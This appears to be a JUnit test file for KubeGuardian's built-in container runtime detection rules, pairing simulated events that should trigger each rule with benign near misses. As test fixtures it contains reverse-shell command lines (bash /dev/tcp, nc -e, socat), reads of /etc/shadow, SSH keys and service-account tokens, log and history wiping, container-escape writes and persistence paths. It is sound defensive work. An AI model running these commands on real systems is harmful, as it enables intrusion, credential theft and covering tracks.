package io.kubeguardian.rules;

import static io.kubeguardian.rules.TestEvent.O_APPEND;
import static io.kubeguardian.rules.TestEvent.O_CREAT;
import static io.kubeguardian.rules.TestEvent.O_RDONLY;
import static io.kubeguardian.rules.TestEvent.O_RDWR;
import static io.kubeguardian.rules.TestEvent.O_TRUNC;
import static io.kubeguardian.rules.TestEvent.O_WRONLY;
import static io.kubeguardian.rules.TestEvent.connect;
import static io.kubeguardian.rules.TestEvent.connectUnix;
import static io.kubeguardian.rules.TestEvent.exec;
import static io.kubeguardian.rules.TestEvent.exit;
import static io.kubeguardian.rules.TestEvent.fork;
import static io.kubeguardian.rules.TestEvent.open;
import static io.kubeguardian.rules.TestProcess.running;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.kubeguardian.schema.EventBits;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Each rule that comes with KubeGuardian: what makes exactly it fire, and what comes close and does not. */
class BuiltInRulesTest {
    private static final RuleSet RULES = RuleSet.loadBuiltIn();

    private static final String TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token";

    private static final TestProcess ENTRYPOINT = running("/bin/sh", "/entrypoint.sh", null);
    private static final TestProcess SERVER = running("/usr/sbin/server", "--config /etc/server.conf", ENTRYPOINT);
    private static final TestProcess INTRUDER = running("/bin/sh", "-c id", SERVER);
    private static final TestProcess NPM = running("/usr/bin/npm start", "", null);
    private static final TestProcess LOGGED_IN = running("/bin/bash", "", running("/usr/sbin/sshd", "-D", null));

    static Stream<Arguments> triggers() {
        return Stream.of(
                arguments("Shell spawned by a server process", exec(INTRUDER)),
                arguments("Shell spawned by a server process",
                        exec(running("/bin/bash", "-i", running("/usr/bin/python3", "app.py", null)))),
                arguments("Service account token read by an unexpected program",
                        open(running("/bin/cat", TOKEN, INTRUDER), TOKEN, O_RDONLY)),
                arguments("Service account token read by an unexpected program",
                        open(running("/opt/odd", "", INTRUDER),
                                "/run/secrets/kubernetes.io/serviceaccount/..2026_03_01/token", O_RDONLY)),
                // The sensor gives the file's own path, in which /var/run is a link to /run.
                arguments("Service account token read by an unexpected program",
                        open(running("/bin/cat", "", INTRUDER),
                                "/run/secrets/eks.amazonaws.com/serviceaccount/..2026_03_01/token", O_RDONLY)),
                arguments("System log erased", open(SERVER, "/run/utmp", O_WRONLY | O_TRUNC)),
                arguments("Program run from a temporary or writable place",
                        exec(running("/tmp/.x/payload", "", INTRUDER))),
                arguments("Program run from a temporary or writable place",
                        exec(running("/usr/bin/payload", "", INTRUDER).withFlags(EventBits.EXEC_UPPER_LAYER))),
                arguments("Program run from a temporary or writable place",
                        exec(running("/memfd:x", "", SERVER).withFlags(EventBits.EXEC_MEMFD))),
                arguments("Outbound connection by a program run from a temporary place",
                        connect(running("/dev/shm/payload", "", INTRUDER), "127.0.0.1", 4444)),
                arguments("Outbound connection by a program run from a temporary place",
                        connect(running("/tmp/payload", "", INTRUDER), "2001:db8::1", 443).withResult(-111)),
                arguments("Reverse shell command line",
                        exec(running("/bin/bash", "-c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ENTRYPOINT))),
                arguments("Reverse shell command line", exec(running("/bin/nc", "10.0.0.1 4444 -e /bin/sh", ENTRYPOINT))),
                arguments("Reverse shell command line",
                        exec(running("/usr/bin/socat", "exec:'bash -li',pty tcp:10.0.0.1:4444", ENTRYPOINT))),
                arguments("Crypto miner started", exec(running("/usr/bin/xmrig", "-o pool", ENTRYPOINT))),
                arguments("Crypto miner started",
                        exec(running("/usr/bin/work", "-o stratum+tcp://pool.example:3333", ENTRYPOINT))),
                arguments("Package manager run in a container", exec(running("/usr/bin/apt-get", "install x", ENTRYPOINT))),
                arguments("Kubernetes client run in a container", exec(running("/usr/bin/kubectl", "get pods", ENTRYPOINT))),
                arguments("Stored credentials read", open(running("/bin/cat", "/etc/shadow", SERVER), "/etc/shadow", O_RDONLY)),
                arguments("Stored credentials read",
                        open(SERVER, "/srv/../etc/shadow", O_RDONLY)),
                arguments("Stored credentials read", open(SERVER, "/root/.ssh/id_ed25519", O_RDONLY)),
                arguments("Cloud metadata asked for credentials by a tool",
                        connect(running("/usr/bin/curl", "169.254.169.254", SERVER), "169.254.169.254", 80)),
                arguments("Shell history erased",
                        open(running("/bin/cp", "/dev/null", LOGGED_IN), "/root/.bash_history", O_WRONLY | O_TRUNC)),
                arguments("Shell history erased", exec(running("/bin/rm", "-f /root/.bash_history", LOGGED_IN))),
                arguments("System log erased", open(SERVER, "/var/log/wtmp", O_WRONLY | O_CREAT | O_TRUNC)),
                arguments("System log erased", exec(running("/bin/rm", "-rf /var/log/nginx", LOGGED_IN))),
                arguments("Kernel helper path written from a container",
                        open(SERVER, "/sys/fs/cgroup/rdma/release_agent", O_WRONLY)),
                arguments("Kernel helper path written from a container",
                        open(SERVER, "/proc/sys/kernel/core_pattern", O_RDWR)),
                arguments("Container runtime socket used from a container", connectUnix(SERVER, "/var/run/docker.sock")),
                arguments("Persistence path written from a container",
                        open(SERVER, "/etc/cron.d/job", O_WRONLY | O_CREAT)),
                arguments("Persistence path written from a container",
                        open(SERVER, "/home/x/.ssh/authorized_keys", O_WRONLY | O_APPEND)));
    }

    @ParameterizedTest
    @MethodSource("triggers")
    void exactlyTheRuleFires(String rule, TestEvent event) {
        // Given the event, When
        List<String> hits = Rules.hits(RULES, event);

        // Then
        assertThat(hits).containsExactly(rule);
    }

    static Stream<Arguments> nearMisses() {
        return Stream.of(
                arguments("a shell started by a shell", exec(running("/bin/bash", "", ENTRYPOINT))),
                arguments("a container's entrypoint", exec(ENTRYPOINT)),
                arguments("a shell started by an init program",
                        exec(running("/bin/sh", "-c /run.sh", running("/sbin/tini", "--", null)))),
                arguments("npm starts the service's script", exec(running("/bin/sh", "-c node server.js", NPM))),
                arguments("a log is rotated",
                        exec(running("/bin/sh", "-c reload", running("/usr/sbin/logrotate", "", null)))),
                arguments("the service reads its own token behind an init program and an entrypoint",
                        open(running("/srv/server", "",
                                running("/bin/sh", "/entrypoint.sh", running("/sbin/tini", "--", null))), TOKEN, O_RDONLY)),
                arguments("the API server reads its key",
                        open(running("/usr/local/bin/kube-apiserver", "", null), "/etc/kubernetes/pki/apiserver.key",
                                O_RDONLY)),
                arguments("a shell that a server starts on the host", exec(INTRUDER).onHost()),
                arguments("a helper that is no shell", exec(running("/usr/lib/server/worker", "", SERVER))),
                arguments("the service reads its own token", open(SERVER, TOKEN, O_RDONLY)),
                arguments("a tool reads the certificate beside the token",
                        open(running("/bin/cat", "", INTRUDER), TOKEN.replace("token", "ca.crt"), O_RDONLY)),
                arguments("the token is not there",
                        open(running("/bin/cat", TOKEN, INTRUDER), TOKEN, O_RDONLY).withResult(-2)),
                arguments("a program in a folder that is only called tmp", exec(running("/srv/tmp/program", "", SERVER))),
                arguments("a program of the image connects", connect(SERVER, "10.0.0.5", 5432)),
                arguments("a program from a temporary place uses a local socket",
                        connectUnix(running("/tmp/payload", "", ENTRYPOINT), "/run/app.sock")),
                arguments("netcat only looks whether a port is open",
                        exec(running("/bin/nc", "-z -w 1 10.0.0.5 5432", ENTRYPOINT))),
                arguments("a shell writes to a local file in /dev", exec(running("/bin/sh", "-c echo > /dev/null", ENTRYPOINT))),
                arguments("a program with a pool of its own", exec(running("/usr/bin/work", "--pool tcp://db:1", ENTRYPOINT))),
                arguments("a package manager on the host", exec(running("/usr/bin/apt-get", "install x", ENTRYPOINT)).onHost()),
                arguments("a public key", open(SERVER, "/root/.ssh/id_ed25519.pub", O_RDONLY)),
                arguments("an account program reads password hashes",
                        open(running("/usr/sbin/unix_chkpwd", "root", SERVER), "/etc/shadow", O_RDONLY)),
                arguments("the service asks the metadata service", connect(SERVER, "169.254.169.254", 80)),
                arguments("a shell adds to its history", open(LOGGED_IN, "/root/.bash_history", O_WRONLY | O_APPEND)),
                arguments("a shell rewrites its own history", open(LOGGED_IN, "/root/.bash_history", O_WRONLY | O_TRUNC)),
                arguments("a log's keeper empties it",
                        open(running("/usr/sbin/logrotate", "", null), "/var/log/syslog", O_WRONLY | O_TRUNC)),
                arguments("a log is appended to", open(SERVER, "/var/log/auth.log", O_WRONLY | O_APPEND)),
                arguments("the core pattern is only read", open(SERVER, "/proc/sys/kernel/core_pattern", O_RDONLY)),
                arguments("another local socket", connectUnix(SERVER, "/var/run/postgresql/.s.PGSQL.5432")),
                arguments("a schedule is only read", open(SERVER, "/etc/cron.d/job", O_RDONLY)));
    }

    @ParameterizedTest
    @MethodSource("nearMisses")
    void noRuleFires(String what, TestEvent event) {
        // Given the event, When
        List<String> hits = Rules.hits(RULES, event);

        // Then
        assertThat(hits).as(what).isEmpty();
    }

    @Test
    void anOrdinaryServiceIsLeftInPeaceFromStartToEnd() {
        // Given
        List<TestEvent> life = List.of(
                exec(ENTRYPOINT),
                open(ENTRYPOINT, "/entrypoint.sh", O_RDONLY),
                fork(ENTRYPOINT),
                exec(SERVER),
                open(SERVER, "/etc/ld.so.cache", O_RDONLY),
                open(SERVER, "/lib/x86_64-linux-gnu/libc.so.6", O_RDONLY),
                open(SERVER, "/etc/server.conf", O_RDONLY),
                open(SERVER, "/etc/passwd", O_RDONLY),
                open(SERVER, "/var/log/server.log", O_WRONLY | O_CREAT | O_APPEND),
                open(SERVER, "/tmp/server.sock.lock", O_RDWR | O_CREAT),
                connectUnix(SERVER, "/dev/log"),
                connect(SERVER, "10.0.0.5", 5432),
                connect(SERVER, "127.0.0.1", 5432),
                exit(SERVER, 0));

        // When
        List<String> hits = life.stream().flatMap(event -> Rules.hits(RULES, event).stream()).toList();

        // Then
        assertThat(hits).isEmpty();
    }

    @Test
    void everyRuleHasATriggerATechniqueAndEventsOfOurs() {
        // Given
        Set<Object> triggered = Stream.concat(triggers().map(each -> each.get()[0]), RuleCase.all().stream().map(RuleCase::rule))
                .collect(Collectors.toSet());

        // When
        List<Rule> rules = RULES.rules();

        // Then
        assertThat(rules).extracting(Rule::name).doesNotHaveDuplicates().allMatch(triggered::contains);
        assertThat(rules).allMatch(rule -> !rule.techniques().isEmpty() && !rule.eventTypes().isEmpty()
                && rule.unsourcedFields().isEmpty());
        assertThat(RULES.warnings()).isEmpty();
    }

    @Test
    void anOutputHasTheValuesOfTheEvent() {
        // Given
        TestEvent event = exec(INTRUDER);

        // When
        StringBuilder output = new StringBuilder();
        RULES.evaluate(event, hit -> output.append(hit.output()));

        // Then
        assertThat(output).startsWith("server started a shell | command=sh -c id parent_command=server --config")
                .contains("grandparent=sh", "container=0123456789ab", "pod=shop/server-7d9f-x2x")
                .doesNotContain("<NA>", "%");
    }
}
